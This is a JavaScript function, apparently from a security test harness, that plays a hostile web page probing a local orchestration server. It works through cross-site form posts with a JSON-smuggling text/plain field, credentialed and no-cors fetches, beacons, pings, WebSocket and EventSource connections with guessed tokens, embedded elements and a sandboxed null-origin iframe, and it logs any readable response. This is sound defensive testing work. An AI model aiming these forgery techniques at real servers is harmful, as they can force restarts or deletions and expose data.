// What a hostile page tries on a server it may not touch. Resolves to a list of what came back that the page could read
// ("how: status text"); an empty list says that it learned nothing. Whether it did something only the victim can say.
async function attack(victim, calls, readable) {
    const learned = [];
    const note = (how, what) => learned.push(`${how}: ${String(what).slice(0, 300)}`);
    const within = (promise, ms = 1500) => Promise.race([promise, new Promise((over) => setTimeout(over, ms))]);
    const tricks = [];
    let frames = 0;

    const told = async (how, answer) => {
        if (answer.type !== 'opaque' && answer.type !== 'opaqueredirect')
            note(how, `${answer.status} ${await answer.text()}`);
    };
    const fetched = (how, url, options) =>
        tricks.push(within(fetch(url, options).then((answer) => told(how, answer), () => {})));

    // forms: no script is needed for them, and no preflight comes before them
    const submitted = (path, type) => {
        const frame = document.createElement('iframe');
        frame.name = `frame${++frames}`;
        const form = document.createElement('form');
        Object.assign(form, {method: 'post', action: victim + path, enctype: type, target: frame.name});
        const input = document.createElement('input');
        input.name = '{"force": true, "cascade": true, "x": "'; // with text/plain nearly JSON
        input.value = '"}';
        form.append(input);
        document.body.append(frame, form);
        frame.addEventListener('load', () => {
            try {
                if (frame.contentDocument && frame.contentDocument.URL !== 'about:blank')
                    note(`form ${path}`, frame.contentDocument.body.textContent);
            } catch { /* of another origin: not for us */ }
        });
        form.submit(); // nobody waits for it: an answer that is no page never loads
    };
    for (const call of calls) {
        if (call.method === 'POST') {
            const types = ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded'];
            for (const type of call.path.includes('/restart/') ? types : types.slice(0, 1))
                submitted(call.path, type);
        }
    }

    for (const {method, path} of calls) {
        const body = method === 'GET' ? undefined : '{}';
        const data = new FormData();
        data.append('force', 'true');
        fetched(`cors ${method} ${path}`, victim + path, {method, body});
        fetched(`credentials ${method} ${path}`, victim + path, {method, body, credentials: 'include'});
        fetched(`json ${method} ${path}`, victim + path,
            {method, body, headers: {'Content-Type': 'application/json', 'Authorization': 'Bearer guess'}});
        if (method === 'PUT' || method === 'DELETE')
            continue;
        fetched(`no-cors ${method} ${path}`, victim + path, {method, body, mode: 'no-cors', keepalive: true});
        fetched(`data ${method} ${path}`, victim + path, {method, mode: 'no-cors', body: body && data});
        if (method === 'POST') {
            navigator.sendBeacon(victim + path, new Blob(['{}'], {type: 'application/json'}));
            navigator.sendBeacon(victim + path, new Blob(['{}'], {type: 'text/plain'}));
            const link = document.createElement('a');
            Object.assign(link, {href: '#', ping: victim + path});
            document.body.append(link);
            link.click();
        }
    }

    // streams
    for (const protocols of [[], ['bearer.guess'], ['ticket.guess']]) {
        tricks.push(within(new Promise((done) => {
            const url = victim.replace('http', 'ws') + '/api/orchestration/events/stream';
            const socket = new WebSocket(url, protocols);
            socket.onopen = () => note('websocket', 'open');
            socket.onmessage = (message) => { note('websocket', message.data); done(); };
            socket.onclose = done;
        })));
    }
    for (const path of readable) {
        tricks.push(within(new Promise((done) => {
            const source = new EventSource(victim + path, {withCredentials: true});
            source.onopen = () => note('event source', 'open');
            source.onmessage = (message) => note('event source', message.data);
            source.onerror = () => { source.close(); done(); };
        })));
    }

    // what pages may load from anywhere
    for (const path of readable) {
        const embedded = (tag, attributes, seen) => tricks.push(within(new Promise((done) => {
            const element = document.createElement(tag);
            Object.assign(element, attributes);
            element.addEventListener('load', () => { seen(element); done(); });
            element.addEventListener('error', done);
            document.body.append(element);
        })));
        embedded('img', {src: victim + path}, () => note('img', 'loaded'));
        embedded('script', {src: victim + path}, () => note('script', 'loaded'));
        embedded('link', {rel: 'stylesheet', href: victim + path}, () => note('stylesheet', 'loaded'));
        embedded('iframe', {src: victim + path}, (frame) => {
            try {
                if (frame.contentDocument && frame.contentDocument.URL !== 'about:blank')
                    note('iframe', frame.contentDocument.body.textContent);
            } catch { /* of another origin: not for us */ }
        });
    }

    // a page without an origin
    const script = `for (const path of ${JSON.stringify(calls.filter((call) => call.method === 'POST')
        .map((call) => victim + call.path))}) {
        fetch(path, {method: 'POST', mode: 'no-cors', body: '{}'});
        fetch(path, {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'}).catch(() => {});
    }`;
    const sandbox = document.createElement('iframe');
    sandbox.setAttribute('sandbox', 'allow-scripts allow-forms');
    sandbox.srcdoc = `<script>${script}<` + '/script>';
    document.body.append(sandbox);

    await Promise.all(tricks);
    await new Promise((done) => setTimeout(done, 700)); // forms, beacons, pings, the sandbox
    return learned;
}
